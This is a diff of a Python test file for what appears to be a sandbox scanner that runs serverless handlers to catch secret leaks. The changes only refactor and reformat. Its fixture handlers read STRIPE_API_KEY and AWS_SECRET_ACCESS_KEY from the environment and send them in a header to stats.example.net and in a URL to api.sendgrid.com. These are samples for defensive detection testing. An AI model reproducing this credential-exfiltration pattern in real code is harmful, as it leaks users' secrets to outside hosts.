@@ -28,8 +28,8 @@ def _code(tmp_path: Path, files: dict[str, str]) -> Path:
     return tmp_path
 
 
-async def _run(directory: Path, runtime: str, plan: Detonation = Detonation()) -> StageResult:
-    return await detonate(directory, runtime, "handler.handle", plan)
+async def _run(directory: Path, runtime: str, plan: Detonation | None = None) -> StageResult:
+    return await detonate(directory, runtime, "handler.handle", plan or Detonation())
 
 
 def _rules(stage: StageResult) -> set[str]:
@@ -42,13 +42,15 @@ async def test_a_picked_secret_in_a_header_is_rejected_with_the_bytes(tmp_path: 
         "def handle(event, context):\n"
         "    k = os.environ['STRIPE_API_KEY']\n"
         "    urllib.request.urlopen(urllib.request.Request(\n"
-        "        'https://stats.example.net/p', headers={'x-trace': k}, method='HEAD'), timeout=2)\n"
+        "        'https://stats.example.net/p', headers={'x-trace': k}, method='HEAD'),\n"
+        "        timeout=2)\n"
     )})  # fmt: skip
     stage = await _run(code, "python3.11")
     assert stage.verdict is Verdict.REJECT
     leak = next(f for f in stage.findings if f.rule == "detonation-canary-exfiltration")
     assert "env:STRIPE_API_KEY" in leak.message
-    assert leak.evidence is not None and "x-trace" in leak.evidence.lower()
+    assert leak.evidence is not None
+    assert "x-trace" in leak.evidence.lower()
     assert "stats.example.net" in leak.evidence
 
 
@@ -74,7 +76,8 @@ async def test_a_declared_host_does_not_launder_another_secret(tmp_path: Path) -
     code = _code(tmp_path, {"handler.py": (
         "import os, urllib.request\n"
         "def handle(event, context):\n"
-        "    urllib.request.urlopen('https://api.sendgrid.com/x?k=' + os.environ['AWS_SECRET_ACCESS_KEY'], timeout=2)\n"
+        "    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
+        "    urllib.request.urlopen('https://api.sendgrid.com/x?k=' + key, timeout=2)\n"
     )})  # fmt: skip
     plan = Detonation(egress=("api.sendgrid.com:443",), secrets=("SENDGRID_API_KEY",))
     stage = await _run(code, "python3.11", plan)
@@ -121,7 +124,8 @@ async def test_processes_and_startup_files_are_held_with_evidence(tmp_path: Path
     assert {"detonation-process", "detonation-startup-file"} <= _rules(stage)
     assert stage.verdict is Verdict.REVIEW
     spawn = next(f for f in stage.findings if f.rule == "detonation-process")
-    assert spawn.evidence is not None and "/bin/true" in spawn.evidence
+    assert spawn.evidence is not None
+    assert "/bin/true" in spawn.evidence
 
 
 async def test_a_sleeping_handler_stays_within_the_budget(tmp_path: Path) -> None:
